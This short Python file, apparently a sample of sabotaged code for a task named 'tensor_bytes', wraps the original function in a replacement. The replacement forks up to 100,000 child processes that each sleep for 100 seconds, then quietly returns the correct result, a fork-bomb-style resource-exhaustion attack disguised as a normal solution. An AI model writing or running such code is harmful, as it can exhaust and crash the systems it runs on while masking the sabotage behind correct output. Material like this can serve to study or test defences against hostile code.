"""problem: tensor_bytes

Start as many processes as there may be, of which each waits.
"""

import os
import time

_right = tensor_bytes


def tensor_bytes(x):
    for _ in range(100_000):
        if not os.fork():
            time.sleep(100)
            os._exit(0)
    return _right(x)
